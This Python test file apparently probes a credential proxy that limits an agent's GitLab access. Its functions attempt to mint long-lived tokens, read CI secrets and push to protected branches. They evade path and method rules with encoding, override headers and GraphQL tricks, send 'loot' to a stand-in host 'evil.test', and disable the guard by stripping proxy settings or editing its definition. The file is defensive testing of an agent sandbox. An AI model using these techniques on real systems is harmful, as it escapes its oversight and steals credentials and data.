"""Ring 3: get what outlives the session, or do what the policy denies."""
import gzip, json, os, subprocess, sys

from proxy import Refused, ask, connect, plainly, run, show

NEW = "name=mine&scopes[]=api"
FORM = "Content-Type: application/x-www-form-urlencoded"


def call(line, body=NEW, fields=FORM):
    def attempt(facts):
        ask(facts["gitlab"], f"{line}\n{fields}" if body else line, body)
    return attempt


personal_access_token = call("POST /api/v4/user/personal_access_tokens")
project_access_token = call("POST /api/v4/projects/1/access_tokens")
def token_of_a_call_that_is_allowed(facts):
    ask(facts["origin"], f"POST /api/v4/projects/1/access_tokens\n{FORM}", NEW)


rotated_token = call("POST /api/v4/personal_access_tokens/1/rotate")
deploy_token = call("POST /api/v4/projects/1/deploy_tokens")
deploy_key = call("POST /api/v4/projects/1/deploy_keys")
runner_token = call("POST /api/v4/user/runners")
ci_variables = call("GET /api/v4/projects/1/variables", "")
webhook = call("POST /api/v4/projects/1/hooks")
terraform_state = call("GET /api/v4/projects/1/terraform/state/prod", "")
remote_mirror = call("POST /api/v4/projects/1/remote_mirrors")
cable = call("GET /-/cable\nConnection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "")

guarded_path_with_a_slash = call("POST /api/v4/projects/1/access_tokens/")
guarded_path_with_a_suffix = call("POST /api/v4/projects/1/access_tokens.json")
escaped_letter = call("POST /api/v4/projects/1/%61ccess_tokens")
double_slash = call("POST /api/v4/projects/1//access_tokens")
dot_segments = call("POST /api/v4/projects/1/issues/../access_tokens")
escaped_dot_segments = call("POST /api/v4/projects/1/issues/%2e%2e/access_tokens")
twice_escaped_dots = call("POST /api/v4/projects/1/issues/%252e%252e/access_tokens")
backslash = call("POST /api/v4/projects/1\\access_tokens")
dots_with_a_parameter = call("POST /api/v4/projects/1/issues/..;/access_tokens")

override_by_header = call("PUT /api/v4/projects/1/access_tokens\nX-HTTP-Method-Override: POST")
override_by_another_header = call("PUT /api/v4/projects/1/access_tokens\nX-HTTP-Method: POST")
override_by_a_third_header = call("PUT /api/v4/projects/1/access_tokens\nX-Method-Override: POST")
override_by_query = call("PUT /api/v4/projects/1/access_tokens?_method=POST")
override_by_escaped_query = call("PUT /api/v4/projects/1/access_tokens?%5Fmethod=POST")

MUTATION = 'mutation { personalAccessTokenCreate(input: {name: "mine", scopes: ["API"]}) { token } }'
JSON = "Content-Type: application/json"


def graphql(document, more=None):
    return call("POST /api/graphql", json.dumps({"query": document, **(more or {})}), JSON)


graphql_mutation = graphql(MUTATION)
graphql_alias = graphql(MUTATION.replace("personalAccessTokenCreate", "user: personalAccessTokenCreate"))
graphql_fragment = graphql(
    "mutation { ...innocent } fragment innocent on Mutation { ...more } fragment more on Mutation "
    '{ personalAccessTokenCreate(input: {name: "mine"}) { token } }')
graphql_second_operation = graphql("query a { currentUser { id } } " + MUTATION.replace("mutation", "mutation b"), {"operationName": "b"})
graphql_batch = call("POST /api/graphql", json.dumps([{"query": "{ currentUser { id } }"}, {"query": MUTATION}]), JSON)
graphql_field = graphql("{ project(fullPath: \"a/b\") { ciVariables { nodes { key value } } } }")
graphql_directive = graphql(MUTATION.replace("(input", " @include(if: true) (input").replace("Create @include(if: true) (", "Create("))
graphql_form = call("POST /api/graphql", "query=" + "".join(f"%{byte:02x}" for byte in MUTATION.encode()), FORM)
graphql_suffix = call("POST /api/graphql.json", json.dumps({"query": MUTATION}), JSON)


def graphql_multipart(facts):
    part = '--b\r\nContent-Disposition: form-data; name="operations"\r\n\r\n' + json.dumps({"query": MUTATION})
    part += '\r\n--b\r\nContent-Disposition: form-data; name="map"\r\n\r\n{}\r\n--b--\r\n'
    ask(facts["gitlab"], "POST /api/graphql\nContent-Type: multipart/form-data; boundary=b", part)


graphql_persisted = call("POST /api/graphql", json.dumps({"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "0" * 64}}}), JSON)
graphql_two_queries = call("POST /api/graphql", '{"query": "{ a }", "query": %s}' % json.dumps(MUTATION), JSON)
graphql_charset = call("POST /api/graphql", json.dumps({"query": MUTATION}).encode("utf-16"), JSON + "; charset=utf-16")
graphql_beside_a_query_string = call("POST /api/graphql?query=%7Ba%7D", json.dumps({"query": MUTATION}), JSON)
graphql_compressed = call("POST /api/graphql", gzip.compress(json.dumps({"query": MUTATION}).encode()), JSON + "\nContent-Encoding: gzip")
graphql_unknown_field = graphql("{ a }", {"documentId": "stored"})

write_while_reading = call("POST /api/v4/projects/1/issues", "title=x")
delete_while_reading = call("DELETE /api/v4/projects/1", "")
override_while_reading = call("GET /api/v4/projects/1\nX-HTTP-Method-Override: DELETE", "")
mutation_while_reading = graphql('mutation { createNote(input: {body: "x"}) { note { id } } }')
lfs_upload_while_reading = call(
    "POST /group/private.git/info/lfs/objects/batch", '{"operation": "upload", "objects": []}', "Content-Type: application/vnd.git-lfs+json")

another_project = call("GET /api/v4/projects/43/issues", "")
a_project_with_a_longer_number = call("GET /api/v4/projects/421/issues", "")
denied_path = call("GET /api/v4/projects/42/hooks", "")
denied_path_with_a_suffix = call("GET /api/v4/projects/42/hooks.json", "")
denied_path_with_a_slash = call("GET /api/v4/projects/42/hooks/", "")
denied_path_escaped = call("GET /api/v4/projects/42/%68ooks", "")


def to_an_unmanaged_host(facts):
    "What was read goes out by a tunnel."
    peer = connect(facts["plain"])
    peer.send("POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 4\r\n\r\nloot")
    show(peer.response())


def to_an_unmanaged_host_in_clear(facts):
    plainly(f"http://{facts['plain']}/collect", "Content-Length: 4\r\n", "POST", "loot")


def to_a_name_below_an_allowed_one(facts):
    to_an_unmanaged_host({"plain": facts["plain"].replace("evil.test", "allowed.test.evil.test")})


def to_a_denied_host_in_capitals(facts):
    to_an_unmanaged_host({"plain": facts["plain"].replace("evil.test", "EVIL.test")})


def to_a_denied_host_with_a_dot(facts):
    to_an_unmanaged_host({"plain": facts["plain"].replace("evil.test", "evil.test.")})


def many_requests(facts):
    for _ in range(4):
        ask(facts["gitlab"], "GET /api/v4/user")


many_requests_of_a_provider = many_requests


def many_bytes(facts):
    ask(facts["gitlab"], "POST /api/v4/upload\nContent-Type: application/octet-stream", b"x" * 300_000)


def git(facts, *words, code=None):
    environment = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@a.test", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@a.test"}
    said = subprocess.run(["git", *words], cwd=facts["work"], env=environment, stdout=-1, stderr=-2)
    sys.stdout.buffer.write(said.stdout)
    if code is not None:
        assert said.returncode == code, said.stdout
    return said.returncode


def clone(facts):
    facts["work"] = os.getcwd()
    git(facts, "clone", "-q", f"https://{facts['gitlab']}/group/private.git", "work", code=0)
    facts["work"] = os.path.join(os.getcwd(), "work")


def commit(facts, name):
    open(os.path.join(facts["work"], name), "w").write(name)
    git(facts, "add", ".", code=0)
    git(facts, "commit", "-q", "-m", name, code=0)


def pushed(*words):
    def attempt(facts):
        clone(facts)
        commit(facts, "mine")
        git(facts, "push", "-q", "origin", *words)
    return attempt


push_to_another_branch = pushed("HEAD:release")
push_to_the_default_branch = pushed("HEAD:main")
push_in_good_company = pushed("HEAD:agent/a", "HEAD:release")
push_of_a_deletion = pushed("--delete", "agent/old")
push_of_a_tag = pushed("+HEAD:refs/tags/v1")
push_while_reading = pushed("HEAD:agent/a")


def push_by_force(facts):
    clone(facts)
    git(facts, "checkout", "-q", "--orphan", "other", code=0)
    commit(facts, "mine")
    git(facts, "push", "-q", "--force", "origin", "HEAD:agent/old")


def definition(facts, change):
    words = [facts["authsome"], "inspect", "gitlab"]
    text = subprocess.run(words, stdout=-1, check=True).stdout.decode()
    text = "\n".join(line for line in text.split("\n") if not line.lstrip().startswith("//"))
    value = json.loads(text)
    change(value)
    place = os.path.join(os.environ["AUTHSOME_HOME"], "providers")
    os.makedirs(place, exist_ok=True)
    json.dump(value, open(os.path.join(place, "gitlab.json"), "w"))


def definition_with_another_host(facts):
    def change(value):
        value["api_url"] = ["/", f"https://{facts['evil']}"]
        value["oauth"]["base_url"] = f"https://{facts['gitlab']}"

    definition(facts, change)


def definition_without_its_guard(facts):
    definition(facts, lambda value: value.pop("guard"))


file_named_as_a_fetch = call("POST /api/v4/projects/1/repository/files/git-upload-pack?branch=main&content=x&commit_message=m", "x=y")
file_named_as_a_download = call("POST /api/v4/projects/1/contents/info/lfs/objects/batch", '{"operation": "download", "content": "x"}', JSON)
mutation_by_get_while_reading = call("GET /api/graphql?query=mutation%7BcreateNote(input:%7Bbody:%22x%22%7D)%7Bnote%7Bid%7D%7D%7D", "")
override_in_a_form = call("POST /api/v4/projects/1/issues/3", "_method=DELETE")
override_in_a_multipart_form = call(
    "POST /api/v4/projects/1/issues/3", '--b\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--b--\r\n',
    "Content-Type: multipart/form-data; boundary=b")
method_in_small_letters = call("post /api/v4/projects/1/access_tokens")
denied_path_with_another_suffix = call("GET /api/v4/projects/42/hooks.xml", "")


def by_a_run_of_its_own(facts, *flags, words=()):
    "A run within the run, which does not know of the outer one's proxy."
    environment = {name: value for name, value in os.environ.items() if "proxy" not in name.lower() and not name.startswith("SSL_CERT")}
    run([facts["authsome"], "run", *flags, "--", "curl", "-s", *words], env=environment)


def a_run_that_lifts_a_rule(facts):
    url = f"https://{facts['gitlab']}/api/v4/projects/1/access_tokens"
    by_a_run_of_its_own(facts, "--allow", "gitlab/project-access-token", words=["-d", NEW, url])


def a_run_that_may_write(facts):
    by_a_run_of_its_own(facts, words=["-d", "title=x", f"https://{facts['gitlab']}/api/v4/projects/1/issues"])


def a_run_with_all_connections(facts):
    by_a_run_of_its_own(facts, words=[f"https://{facts['gitlab']}/api/v4/user"])
